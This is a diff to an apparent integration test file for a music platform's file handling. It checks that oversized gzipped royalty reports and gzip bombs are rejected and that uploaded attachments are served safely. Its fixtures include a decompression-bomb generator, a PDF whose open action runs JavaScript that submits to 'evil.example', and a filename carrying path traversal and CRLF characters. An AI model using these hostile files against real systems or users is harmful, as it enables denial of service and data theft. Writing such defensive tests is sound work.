@@ -1,7 +1,10 @@
 import { randomUUID } from 'node:crypto';
+import { Readable } from 'node:stream';
+import { createGzip } from 'node:zlib';
+import { StorageService } from '@soundpost/server-core/storage';
 import { LedgerService } from '@soundpost/server-wallet';
 import { DataSource } from 'typeorm';
-import { fileForm } from './support/kyc-fixtures';
+import { fileForm, PNG } from './support/kyc-fixtures';
 import { approvedArtist, caller, completeRelease, newStaff } from './support/releases-fixtures';
 import { createTestApp, TestApp } from './test-app';
 
@@ -83,6 +86,117 @@ describe('Hostile files (real app)', () => {
         ...Array.from({ length: 5 }, (_, i) => `after${i + 1}@big-row.test`),
         ...Array.from({ length: 3 }, (_, i) => `before${i + 1}@big-row.test`),
       ]);
+    });
+  });
+
+  describe('reports are read within bounds', () => {
+    const HEADER = 'period_start,period_end,store,territory,isrc,upc,units,revenue,currency\n';
+
+    /** `total` bytes of `fill` after the header, gzipped as they are made: only the compressed file is ever held. */
+    async function gzipOf(total: number, fill: string): Promise<Buffer> {
+      const block = Buffer.alloc(1024 * 1024, fill);
+      async function* text() {
+        yield Buffer.from(HEADER);
+        for (let sent = 0; sent < total; sent += block.length) yield block.subarray(0, Math.min(block.length, total - sent));
+      }
+      const parts: Buffer[] = [];
+      for await (const part of Readable.from(text()).pipe(createGzip({ level: 9 }))) parts.push(part as Buffer);
+      return Buffer.concat(parts);
+    }
+
+    async function uploadReport(bytes: Buffer, name: string) {
+      const body = new FormData();
+      body.append('store_id', 'spotify');
+      body.append('period_start', '2026-05-01');
+      body.append('period_end', '2026-05-31');
+      body.append('file', new Blob([new Uint8Array(bytes)], { type: 'application/gzip' }), name);
+      const res = await t.api('/api/admin/royalties/imports', { method: 'POST', token: staff.token, body });
+      return { status: res.status, body: await res.json() };
+    }
+    const importsNamed = async (name: string) => (await db.query(`SELECT count(*)::int AS n FROM royalty_imports WHERE file_name = $1`, [name]))[0].n;
+
+    it('a gzip of one 600 MB line: 422 naming line 2, nothing written, and the memory stays flat', async () => {
+      const gz = await gzipOf(600 * 1024 * 1024, 'a');
+      expect(gz.length).toBeLessThan(2 * 1024 * 1024);
+      const name = `one-line-${randomUUID()}.csv.gz`;
+      const before = process.memoryUsage().rss;
+      const res = await uploadReport(gz, name);
+      const grown = process.memoryUsage().rss - before;
+      expect(res).toEqual({
+        status: 422,
+        body: { message: 'Line 2 of the report is longer than 65536 bytes.', code: 'validation_failed', errors: { file: ['Line 2 of the report is longer than 65536 bytes.'] } },
+      });
+      // The server is this process: reading the line whole grew it by 1.2 GB.
+      expect(grown).toBeLessThan(100 * 1024 * 1024);
+      expect(await importsNamed(name)).toBe(0);
+    });
+
+    it('a gzip bomb of short lines past the decompressed limit: 422, nothing written', async () => {
+      const gz = await gzipOf(64 * 1024 * 1024, '\n');
+      const name = `bomb-${randomUUID()}.csv.gz`;
+      const res = await uploadReport(gz, name);
+      expect(res.status).toBe(422);
+      expect(res.body.errors.file[0]).toMatch(/^The report is larger than \d+ bytes once decompressed\.$/);
+      expect(await importsNamed(name)).toBe(0);
+    });
+  });
+
+  describe('uploaded files are served as downloads, never as pages of our origin', () => {
+    /** A PDF whose open action runs JavaScript. */
+    const SCRIPTED_PDF = Buffer.from(
+      '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
+        "3 0 obj << /S /JavaScript /JS (app.alert('x'); this.submitForm('https://evil.example/')) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
+    );
+    const SANDBOX = "sandbox; default-src 'none'; frame-ancestors 'self'";
+
+    async function ticketWith(files: Array<{ bytes: Buffer; name: string; type: string }>) {
+      const artist = await approvedArtist(t);
+      const body = new FormData();
+      body.append('subject', 'Invoice');
+      body.append('message', 'Attached');
+      for (const f of files) body.append('attachments', new Blob([new Uint8Array(f.bytes)], { type: f.type }), f.name);
+      const res = await t.api('/api/artist/tickets', { method: 'POST', token: artist.token, body });
+      expect(res.status).toBe(201);
+      return (await res.json()) as { attachments: Array<{ name: string; url: string }> };
+    }
+
+    it('a ticket attachment PDF holding JavaScript comes back as an attachment under its own name, not sniffed, sandboxed', async () => {
+      const ticket = await ticketWith([
+        { bytes: SCRIPTED_PDF, name: 'Facture été 2026.pdf', type: 'application/pdf' },
+        { bytes: PNG, name: 'screen.png', type: 'image/png' },
+      ]);
+      const [pdf, png] = ticket.attachments;
+      const res = await t.api(pdf.url);
+      expect(res.status).toBe(200);
+      expect(Buffer.from(await res.arrayBuffer()).equals(SCRIPTED_PDF)).toBe(true);
+      expect(res.headers.get('content-type')).toBe('application/pdf');
+      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="Facture ?t? 2026.pdf"; filename*=UTF-8''Facture%20%C3%A9t%C3%A9%202026.pdf`);
+      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+      expect(res.headers.get('content-security-policy')).toBe(SANDBOX);
+
+      // An image the apps show stays inline, still not sniffed and sandboxed.
+      const image = await t.api(png.url);
+      expect(image.status).toBe(200);
+      expect(image.headers.get('content-disposition')).toBe('inline; filename=screen.png');
+      expect(image.headers.get('x-content-type-options')).toBe('nosniff');
+      expect(image.headers.get('content-security-policy')).toBe(SANDBOX);
+    });
+
+    it('the name and the inline preview are signed: a link\'s holder cannot rename the file or turn it into a page', async () => {
+      const ticket = await ticketWith([{ bytes: SCRIPTED_PDF, name: 'invoice.pdf', type: 'application/pdf' }]);
+      const url = ticket.attachments[0].url;
+      expect((await t.api(`${url}&disposition=inline`)).status).toBe(403);
+      expect((await t.api(url.replace('name=invoice.pdf', 'name=invoice.html'))).status).toBe(403);
+      // A preview link made by the server (staff's identity document review) is inline.
+      const key = new URL(url, 'http://x').pathname.replace('/api/files/', '');
+      const preview = await t.api(t.app.get(StorageService).signedUrl(key, 60, Date.now(), { name: 'id.pdf', inline: true }));
+      expect(preview.status).toBe(200);
+      expect(preview.headers.get('content-disposition')).toBe('inline; filename=id.pdf');
+      expect(preview.headers.get('x-content-type-options')).toBe('nosniff');
+      // A name a header cannot carry as it is (control characters, folders) is cleaned, never a 500.
+      const odd = await t.api(t.app.get(StorageService).signedUrl(key, 60, Date.now(), { name: '../x/in\tvoice\r\n.pdf' }));
+      expect(odd.status).toBe(200);
+      expect(odd.headers.get('content-disposition')).toBe('attachment; filename=invoice.pdf');
     });
   });
 });
